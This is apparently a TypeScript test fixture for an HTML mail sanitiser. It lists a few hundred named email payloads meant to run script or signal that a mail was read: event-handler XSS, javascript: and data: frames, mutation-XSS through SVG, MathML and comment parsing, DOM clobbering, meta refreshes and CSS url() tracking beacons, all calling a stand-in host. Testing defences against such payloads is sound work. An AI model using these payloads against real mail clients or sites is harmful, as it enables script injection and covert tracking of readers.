/**
 * Mails that try to act on who reads them, or to tell that they were read. Each acts in Chromium
 * where nothing holds it, and is stopped by either layer alone, unless `onlyBy` says which.
 */

/** `written`: the HTML is written anew. `policy`: the sandbox and the list of sources. */
export type MailLayer = "written" | "policy";

export interface MailAttack {
  readonly name: string;
  readonly html: string;
  readonly onlyBy?: MailLayer;
  /** It has a window of its own: the first to have the focus of a window keeps it. */
  readonly isAlone?: boolean;
  /** What shows that it acted is a connection, not a request. */
  readonly connects?: boolean;
}

/** Replaced by an address of another origin with the attack's name. */
export const ELSEWHERE = "http://elsewhere.invalid";

const U = ELSEWHERE;
/** Code that tells the outside that it ran. */
const RUN = `new Image().src='${U}/ran'`;
const script = `<script>${RUN}</script>`;
/** The same without a space or a double quote. */
const bare = `<img src=x onerror=fetch('${U}/ran')>`;
const shot = `<img src=x onerror="${RUN}">`;
const svgData = (inner: string): string =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`)}`;
const css = (text: string, html = "<p class=t>t</p>"): string => `<style>${text}</style>${html}`;
const styled = (text: string): string => `<p style="display:block;${text}">t</p>`;

type Row = readonly [name: string, html: string, more?: Omit<MailAttack, "html" | "name">];

const ROWS: readonly Row[] = [
  // Scripts, and what runs as one.
  ["script", script],
  ["script-src", `<script src="${U}/s.js"></script>`],
  ["script-module", `<script type=module>${RUN}</script>`],
  ["script-module-src", `<script type=module src="${U}/m.js"></script>`],
  ["script-slash", `<script/x>${RUN}</script>`],
  ["script-unclosed-tag", `<scr\0ipt></scr\0ipt><script ${"x=1 ".repeat(50)}>${RUN}</script>`],
  ["script-in-table", `<table><tr>${script}</table>`],
  ["script-in-paragraph", `<p><script>${RUN}</script x>`],
  ["script-src-protocol-relative", `<script src="${U.replace("http:", "")}/s.js"></script>`],
  ["image-error", shot],
  [
    "image-load",
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${RUN}" onerror="${RUN}">`,
  ],
  ["image-newline", `<img\nsrc=x\nonerror\n=\n"${RUN}">`],
  ["image-slash", `<img/src="x"/onerror="${RUN}">`],
  ["image-entities", `<img src=x onerror="&#110;ew&#32;Image().src='${U}/ran'">`],
  ["image-case", `<IMG SRC=x OnErRoR="${RUN}">`],
  ["image-quote", `<img """><img src=x onerror="${RUN}">">`],
  ["image-element", `<image src=x onerror="${RUN}">`],
  ["body-load", `<body onload="${RUN}">`],
  ["body-pageshow", `<body onpageshow="${RUN}">`],
  ["details-toggle", `<details open ontoggle="${RUN}">t</details>`],
  ["style-load", `<style onload="${RUN}"></style>`],
  ["link-error", `<link rel=stylesheet href="data:text/css,a" onload="${RUN}" onerror="${RUN}">`],
  ["frame-load", `<iframe onload="${RUN}"></iframe>`],
  ["object-error", `<object data="data:,x" onload="${RUN}" onerror="${RUN}"></object>`],
  ["embed-load", `<embed src="data:text/html,x" onload="${RUN}">`],
  ["video-source-error", `<video><source src=x onerror="${RUN}"></video>`],
  [
    "video-loadstart",
    `<video src="data:video/mp4,x" onloadstart="${RUN}" onerror="${RUN}"></video>`,
  ],
  ["audio-error", `<audio src=x onerror="${RUN}"></audio>`],
  [
    "animation-start",
    `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${RUN}">t`,
  ],
  [
    "transition-none",
    `<style>@keyframes k{from{color:red}}p{animation:k .01s}</style><p onanimationend="${RUN}">t`,
  ],
  ["input-autofocus", `<input autofocus onfocus="${RUN}">`, { isAlone: true }],
  ["select-autofocus", `<select autofocus onfocus="${RUN}"></select>`, { isAlone: true }],
  ["textarea-autofocus", `<textarea autofocus onfocus="${RUN}"></textarea>`, { isAlone: true }],
  ["element-autofocus", `<b tabindex=1 autofocus onfocus="${RUN}">t</b>`, { isAlone: true }],
  ["link-autofocus", `<a href=#x autofocus onfocus="${RUN}">t</a>`, { isAlone: true }],
  ["custom-element", `<x-y tabindex=1 autofocus onfocus="${RUN}">t</x-y>`, { isAlone: true }],
  ["frame-script-address", `<iframe src="javascript:${RUN}"></iframe>`],
  ["frame-script-tab", `<iframe src="java&Tab;script&colon;${RUN}"></iframe>`],
  ["frame-script-space", `<iframe src=" &#1;javascript:${RUN}"></iframe>`],
  ["frame-srcdoc", `<iframe srcdoc="${script.replaceAll('"', "&quot;")}"></iframe>`],
  ["frame-srcdoc-image", `<iframe srcdoc="<img src='${U}/doc'>"></iframe>`],
  [
    "frame-srcdoc-nested",
    `<iframe srcdoc="<iframe srcdoc='&lt;img src=${U}/in&gt;'></iframe>"></iframe>`,
  ],
  ["frame-data", `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`],
  ["frame-set", `<html><frameset><frame src="${U}/frame"></frameset></html>`],
  ["object-html", `<object data="data:text/html,<script>${RUN}</script>" type=text/html></object>`],
  ["embed-html", `<embed src="data:text/html,<script>${RUN}</script>">`],
  ["meta-refresh", `<meta http-equiv=refresh content="0;url=${U}/refresh">`],
  ["meta-refresh-quotes", `<meta http-equiv="Refresh" content="0; URL='${U}/refresh'">`],
  ["meta-refresh-data", `<meta http-equiv=refresh content="0;url=${U}/x">`],
  // Drawings and formulas.
  ["svg-load", `<svg onload="${RUN}">`],
  ["svg-script", `<svg><script>${RUN}</script></svg>`],
  ["svg-script-entities", `<svg><script>&#110;ew Image().src='${U}/ran'</script></svg>`],
  ["svg-script-href", `<svg><script href="${U}/s.js"></script></svg>`],
  ["svg-script-cdata", `<svg><script><![CDATA[${RUN}]]></script></svg>`],
  ["svg-image", `<svg><image href="${U}/i"/></svg>`],
  ["svg-image-xlink", `<svg><image xlink:href="${U}/i"/></svg>`],
  [
    "svg-fe-image",
    `<svg width=9 height=9><filter id=f><feImage href="${U}/f"/></filter>` +
      `<rect width=9 height=9 filter="url(#f)"/></svg>`,
  ],
  ["svg-style-import", `<svg><style>@import '${U}/c';</style></svg>`],
  ["svg-style-url", `<svg><style>p{background:url(${U}/c)}</style></svg><p>t`],
  [
    "svg-foreign-object",
    `<svg><foreignObject><iframe src="${U}/f"></iframe></foreignObject></svg>`,
  ],
  ["svg-foreign-image", `<svg><foreignObject><img src="${U}/f"></foreignObject></svg>`],
  ["svg-animate-begin", `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`],
  ["svg-set-image", `<svg><image><set attributeName=href to="${U}/set"/></image></svg>`],
  ["svg-title-break", `<svg><title></svg>${shot}</title>`],
  ["svg-desc-image", `<svg><desc><img src="${U}/d"></desc></svg>`],
  ["svg-style-break", `<svg><style>${shot}</style></svg>`],
  ["svg-paragraph-break", `<svg></p><style><a id="</style>${bare}">`],
  ["svg-breakout", `<svg><p>${shot}`],
  ["svg-fill-url", `<svg><rect width=9 height=9 style="mask-image:url(${U}/m)"/></svg>`],
  ["math-style-break", `<math><style>${shot}</style></math>`],
  ["math-text-image", `<math><mtext><img src="${U}/m"></mtext></math>`],
  [
    "math-annotation",
    `<math><annotation-xml encoding="text/html"><img src="${U}/a"></annotation-xml></math>`,
  ],
  [
    "math-annotation-script",
    `<math><annotation-xml encoding="text/html">${script}</annotation-xml></math>`,
  ],
  ["math-mi-svg", `<math><mi><svg><mi>${shot}`],
  ["math-malignmark", `<math><mtext><malignmark></math>${shot}`],
  // Text that is markup for one reader and not for another.
  ["noscript-title", `<noscript><p title="</noscript>${bare}">`],
  ["noscript-style", `<noscript><style></noscript>${shot}`],
  ["comment-bang", `<!--a--!>${shot}-->`],
  ["comment-short", `<!-->${shot}-->`],
  ["comment-dash", `<!--->${shot}-->`],
  ["cdata-html", `<![CDATA[><!]]>${shot}`],
  ["processing-instruction", `<?x >${shot}?>`],
  ["conditional-comment", `<![if !x]>${shot}<![endif]>`],
  ["title-close", `<title></title>${shot}`],
  ["textarea-close", `<textarea></textarea>${shot}`],
  ["xmp-close", `<xmp></xmp>${shot}`],
  ["style-close", `<style>a{content:"</style>${shot}"}`],
  ["style-comment-close", `<style>/*</style>${shot}*/</style>`],
  ["noembed-close", `<noembed></noembed>${shot}`],
  ["iframe-text-close", `<iframe></iframe>${shot}`],
  ["template-close", `<template></div></template>${shot}`],
  [
    "template-shadow",
    `<div><template shadowrootmode=open><img src="${U}/shadow"></template></div>`,
  ],
  [
    "template-shadow-style",
    `<div><template shadowrootmode=open><style>:host{background:url(${U}/host)}</style>t</template>t</div>`,
  ],
  ["table-foster", `<table><b><img src=x onerror="${RUN}"><tr></b></table>`],
  ["select-foster", `<select></select><table><select><tr>${shot}</table>`],
  ["deep-nesting", `${"<div>".repeat(150)}${shot}`],
  ["nul-in-name", `<a\0b><img src=x onerror="${RUN}">`],
  [
    "clobber-attributes",
    `<form id=f onclick=x><input name=attributes><input name=removeAttribute>${shot}</form>`,
  ],
  [
    "clobber-children",
    `<form><input name=childNodes><input name=parentNode><input name=nodeName>${shot}</form>`,
  ],
  ["clobber-document", `<img name=getElementById><img name=body>${shot}`],
  ["clobber-base", `<a id=baseURI href=x></a><base href="${U}/"><img src="clobbered">`],
  // Pictures and other files of elsewhere: that they load tells that the mail was read.
  ["net-image", `<img src="${U}/i">`],
  ["net-image-relative", `<img src="${U.replace("http:", "")}/i">`],
  ["net-image-backslash", `<img src="${U.replace("//", "\\\\")}/i">`],
  ["net-image-srcset", `<img srcset="${U}/i 1x">`],
  ["net-picture", `<picture><source srcset="${U}/i"><img></picture>`],
  ["net-input-image", `<input type=image src="${U}/i">`],
  ["net-video", `<video src="${U}/v" preload=auto></video>`],
  ["net-video-poster", `<video poster="${U}/p"></video>`],
  ["net-audio", `<audio src="${U}/a" preload=auto></audio>`],
  ["net-source", `<audio preload=auto><source src="${U}/a"></audio>`],
  ["net-object", `<object data="${U}/o"></object>`],
  ["net-embed", `<embed src="${U}/e">`],
  ["net-frame", `<iframe src="${U}/f"></iframe>`],
  ["net-body-background", `<body background="${U}/b">`],
  ["net-table-background", `<table background="${U}/b"><tr><td>t</table>`],
  ["net-cell-background", `<table><tr><td background="${U}/b">t</table>`],
  ["net-base", `<base href="${U}/"><img src="based">`],
  ["net-style", `<link rel=stylesheet href="${U}/c">`],
  ["net-style-alternate", `<link rel="alternate stylesheet" title=x href="${U}/c">`],
  ["net-preload", `<link rel=preload as=image href="${U}/p">`],
  ["net-preload-srcset", `<link rel=preload as=image imagesrcset="${U}/p 1x">`],
  ["net-module-preload", `<link rel=modulepreload href="${U}/p.js">`],
  ["net-prefetch", `<link rel=prefetch href="${U}/p">`],
  ["net-preconnect", `<link rel=preconnect href="${U}/">`, { onlyBy: "written", connects: true }],
  ["net-manifest-font", `<link rel=preload as=font crossorigin href="${U}/f">`],
  ["net-svg-data-image", `<object data="${svgData(`<image href="${U}/n"/>`)}"></object>`],
  // Style.
  ["css-import", css(`@import "${U}/c";`)],
  ["css-import-url", css(`@import url(${U}/c);`)],
  ["css-import-escape", css(`@\\69mport "${U}/c";`)],
  ["css-import-media", css(`@import "${U}/c" screen;`)],
  ["css-import-layer", css(`@import "${U}/c" layer(a);`)],
  ["css-font", css(`@font-face{font-family:f;src:url(${U}/f)}.t{font-family:f}`)],
  [
    "css-font-range",
    css(`@font-face{font-family:f;src:url(${U}/f);unicode-range:U+74}.t{font-family:f}`),
  ],
  ["css-background", css(`.t{background:url(${U}/b)}`)],
  ["css-background-escape", css(`.t{background:u\\72l(${U}/b)}`)],
  ["css-background-upper", css(`.t{BACKGROUND:URL("${U}/b")}`)],
  ["css-background-comment", css(`.t{/**/background/**/:/**/url(${U}/b)/**/}`)],
  ["css-background-entity", styled(`background:url(&quot;${U}/b&quot;)`)],
  ["css-second-background", css(`.t{background:none,url(${U}/b)}`)],
  ["css-list", css(`.t{display:list-item;list-style:url(${U}/l)}`)],
  ["css-content", css(`.t::before{content:url(${U}/c)}`)],
  ["css-content-element", css(`.t{content:url(${U}/c)}`)],
  ["css-border-image", css(`.t{border:9px solid;border-image:url(${U}/b) 1}`)],
  ["css-mask", css(`.t{mask-image:url(${U}/m)}`)],
  ["css-webkit-mask", css(`.t{-webkit-mask-box-image:url(${U}/m)}`)],
  ["css-shape", css(`.t{float:left;shape-outside:url(${U}/s)}`)],
  ["css-clip-path", css(`.t{clip-path:url(${U}/f#a)}`)],
  ["css-cross-fade", css(`.t{background:-webkit-cross-fade(url(${U}/a),url(${U}/b),50%)}`)],
  ["css-image-set", css(`.t{background:image-set("${U}/i" 1x)}`)],
  ["css-webkit-image-set", css(`.t{background:-webkit-image-set(url(${U}/i) 1x)}`)],
  ["css-variable", css(`:root{--u:url(${U}/v)}.t{background:var(--u)}`)],
  ["css-variable-fallback", css(`.t{background:var(--none,url(${U}/v))}`)],
  ["css-variable-image-set", css(`.t{--u:"${U}/v";background:image-set(var(--u) 1x)}`)],
  [
    "css-registered",
    css(
      `@property --p{syntax:"<image>";inherits:true;initial-value:none}.t{--p:url(${U}/p);background:var(--p)}`,
    ),
  ],
  ["css-attribute-value", css(`input[value^="s"]{background:url(${U}/s)}`, "<input value=secret>")],
  [
    "css-attribute-href",
    css(`a[href^="http"]{background:url(${U}/h)}`, "<a href='https://a.example/'>t</a>"),
  ],
  ["css-has", css(`div:has(b){background:url(${U}/h)}`, "<div><b>t</b></div>")],
  ["css-media", css(`@media screen{.t{background:url(${U}/m)}}`)],
  ["css-media-size", css(`@media (width<99999px){.t{background:url(${U}/m)}}`)],
  ["css-supports", css(`@supports (color:red){.t{background:url(${U}/s)}}`)],
  ["css-layer", css(`@layer a{.t{background:url(${U}/l)}}`)],
  [
    "css-container",
    css(
      `div{container-type:inline-size}@container (width>0px){.t{background:url(${U}/l)}}`,
      "<div><p class=t>t</div>",
    ),
  ],
  ["css-scope", css(`@scope (div){.t{background:url(${U}/s)}}`, "<div><p class=t>t</div>")],
  ["css-nesting", css(`div{.t{background:url(${U}/n)}}`, "<div><p class=t>t</div>")],
  ["css-keyframes", css(`@keyframes k{from,to{background:url(${U}/k)}}.t{animation:k 9s}`)],
  ["css-first-line", css(`.t::first-line{background:url(${U}/f)}`)],
  ["css-comment-open", `<style><!-- .t{background:url(${U}/c)} --></style><p class=t>t`],
  ["css-broken-string", css(`.a{b:"x\n}.t{background:url(${U}/s)}`)],
  [
    "css-extra-brace",
    css(`.a{color:red}}.b{}.t{background:url(${U}/s)}`, "<p class=t>t</p><p class=t>t</p>").replace(
      "}}.b{}",
      "} .b{}",
    ),
  ],
  ["css-unclosed", `<style>.t{background:url(${U}/u)</style><p class=t>t`],
  ["style-background", styled(`background:url(${U}/a)`)],
  ["style-background-image", styled(`background-image:url(${U}/a)`)],
  ["style-list", `<li style="list-style-image:url(${U}/a)">t</li>`],
  ["style-border-image", styled(`border:3px solid;border-image-source:url(${U}/a)`)],
  ["style-escape", styled(`background:\\75rl(${U}/a)`)],
  ["style-image-set", styled(`background-image:image-set('${U}/a' 1x)`)],
  ["style-variable", styled(`--a:url(${U}/a);background:var(--a)`)],
  ["style-important", styled(`background:url(${U}/a)!important`)],
  ["style-content", `<img style="content:url(${U}/a)">`],
  ["style-cut-off", styled(`color:red;;;}{;background:url(${U}/a`).replace(";}{;", ";")],
  ["style-body", `<body style="background:url(${U}/a)">t</body>`],
  ["style-mask", styled(`-webkit-mask:url(${U}/a)`)],
  // Events that come by themselves, of elements that have others than those above.
  ["style-error", `<style onerror="${RUN}">@import "http://127.0.0.1:9/";</style>`],
  [
    "link-preload-error",
    `<link rel=preload as=image href="data:x,y" onerror="${RUN}" onload="${RUN}">`,
  ],
  ["input-image-error", `<input type=image src=x onerror="${RUN}">`],
  ["frameset-load", `<html><frameset onload="${RUN}"><frame src="about:blank"></frameset></html>`],
  ["audio-loadstart", `<audio src="data:audio/mp3,x" onloadstart="${RUN}"></audio>`],
  [
    "content-visibility",
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">t</p>`,
  ],
  [
    "animation-webkit",
    `<style>@keyframes k{}</style><p style="animation:k 1s" onwebkitanimationstart="${RUN}">t`,
  ],
  [
    "transition-end",
    `<style>p{transition:color .05s;color:red}@starting-style{p{color:blue}}</style><p ontransitionend="${RUN}">t`,
  ],
  ["svg-animate-end", `<svg><animate attributeName=x dur=.05s onend="${RUN}"></svg>`],
  [
    "svg-animate-repeat",
    `<svg><animate attributeName=x dur=.05s repeatCount=3 onrepeat="${RUN}"></svg>`,
  ],
  ["svg-animate-motion", `<svg><animateMotion dur=1s onbegin="${RUN}"/></svg>`],
  [
    "track-error",
    `<video src="data:video/mp4,x"><track default src="data:x,y" onerror="${RUN}"></video>`,
  ],
  // Documents in documents of other types.
  ["frame-svg", `<iframe src="${svgData(`<script>${RUN}</script>`)}"></iframe>`],
  ["embed-svg", `<embed src="${svgData(`<script>${RUN}</script>`)}">`],
  [
    "frame-xhtml",
    `<iframe src="data:application/xhtml+xml,${encodeURIComponent(
      `<x xmlns="http://www.w3.org/1999/xhtml">${script}</x>`,
    )}"></iframe>`,
  ],
  [
    "frame-xml-style",
    `<iframe src="data:text/xml,${encodeURIComponent(
      `<?xml-stylesheet href="${U}/x" type="text/css"?><x/>`,
    )}"></iframe>`,
  ],
  // Refreshes as they are seldom written.
  ["meta-refresh-bare", `<meta http-equiv=refresh content="0;${U}/r">`],
  ["meta-refresh-comma", `<meta http-equiv=refresh content="0, url = ${U}/r">`],
  ["meta-refresh-entity", `<meta http-equiv="&#82;efresh" content="&#48;&semi;url=${U}/r">`],
  // Loads.
  ["net-image-element", `<image src="${U}/i">`],
  ["net-image-lazy", `<img loading=lazy src="${U}/i">`],
  [
    "net-picture-media",
    `<picture><source media="(min-width:1px)" srcset="${U}/i"><img src="data:,"></picture>`,
  ],
  [
    "net-track",
    `<video crossorigin src="data:video/mp4,x"><track kind=captions default src="${U}/t"></video>`,
  ],
  ["net-row-background", `<table><tr background="${U}/b"><td>t</table>`],
  ["net-style-print", `<link rel=stylesheet media=print href="${U}/c">`],
  ["net-style-entity", `<link rel="&#115;tyle&#x73;heet" href="${U}/c">`],
  ["net-preload-script", `<link rel=preload as=script href="${U}/s.js">`],
  ["net-preload-fetch", `<link rel=preload as=fetch crossorigin href="${U}/s">`],
  [
    "svg-animate-image",
    `<svg><image><animate attributeName=href values="${U}/a" dur=9s></image></svg>`,
  ],
  ["svg-switch-image", `<svg><switch><g><image href="${U}/f"/></g></switch></svg>`],
  ["svg-script-xlink", `<svg><script xlink:href="${U}/s.js"></script></svg>`],
  // Style that newer rules and elements reach.
  ["css-marker", css(`.t{display:list-item}.t::marker{content:url(${U}/m)}`)],
  ["css-placeholder", css(`input::placeholder{background:url(${U}/p)}`, "<input placeholder=t>")],
  ["css-file-button", css(`::file-selector-button{background:url(${U}/p)}`, "<input type=file>")],
  [
    "css-details-content",
    css(`::details-content{background:url(${U}/p)}`, "<details open>t</details>"),
  ],
  [
    "css-scrollbar",
    css(
      `.t{height:9px;overflow:scroll}.t::-webkit-scrollbar{width:9px;background:url(${U}/s)}`,
      "<div class=t><p>t</p><p>t</p></div>",
    ),
  ],
  [
    "css-progress",
    css(
      `progress{appearance:none}progress::-webkit-progress-bar{background:url(${U}/p)}`,
      "<progress value=1></progress>",
    ),
  ],
  ["css-function", css(`@function --f(){result:url(${U}/f)}.t{background:--f()}`)],
  ["css-if", css(`.t{--x:1;background:if(style(--x:1):url(${U}/i);else:none)}`)],
  [
    "css-starting-style",
    css(`.t{transition:background 9s}@starting-style{.t{background:url(${U}/s)}}`),
  ],
  ["css-import-after-layer", css(`@layer a;@import url(${U}/c);`)],
  ["css-import-charset", css(`@charset "x";@import "${U}/c" layer supports(display:grid) screen;`)],
  [
    "css-font-local",
    css(
      `@font-face{font-family:f;src:local("none-such"),url(${U}/f)format("woff2")}.t{font-family:f}`,
    ),
  ],
  ["css-url-continuation", css(`.t{background:url("\\\n${U}/b")}`)],
  ["css-url-plain-escape", css(`.t{background:u\\rl(${U}/b)}`)],
  ["css-url-hex-space", css(`.t{background:ur\\6c (${U}/b)}`)],
  [
    "css-variable-parent",
    `<div style="--u:url(${U}/v)"><p style="background:var(--u)">t</p></div>`,
  ],
  [
    "css-keyframes-variable",
    css(`@keyframes k{from,to{--u:url(${U}/k);background:var(--u)}}.t{animation:k 9s}`),
  ],
  ["css-box-reflect", css(`.t{-webkit-box-reflect:below 0 url(${U}/r)}`)],
  ["css-webkit-border-image", css(`.t{border:9px solid;-webkit-border-image:url(${U}/b) 1}`)],
  ["css-cursor", css(`.t{cursor:url(${U}/c),auto}`)],
  ["css-light-dark", css(`.t{background:light-dark(url(${U}/l),url(${U}/l))}`)],
  ["css-lang", css(`.t:lang(en){background:url(${U}/l)}`, "<p class=t lang=en>t</p>")],
  [
    "css-checked",
    css(`:checked{appearance:none;background:url(${U}/c)}`, "<input type=checkbox checked>"),
  ],
  ["css-invalid", css(`:invalid{background:url(${U}/i)}`, "<input required>")],
  ["css-nth-of", css(`:nth-child(1 of .t){background:url(${U}/n)}`)],
  ["css-content-image-set", css(`.t::after{content:image-set("${U}/a" 1x)}`)],
];

export const MAIL_ATTACKS: readonly MailAttack[] = ROWS.map(([name, html, more = {}]) => ({
  name,
  html,
  ...more,
}));
